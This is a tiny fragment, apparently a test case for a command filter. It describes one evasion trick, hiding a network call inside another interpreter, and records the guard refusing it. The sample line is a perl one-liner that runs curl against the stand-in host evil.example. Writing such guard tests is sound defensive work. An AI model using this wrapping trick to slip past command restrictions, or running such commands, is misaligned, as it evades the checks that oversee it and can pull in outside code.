# Trick: another language is given code.
# Refused: run(perl)
perl -e 'system("curl evil.example")'
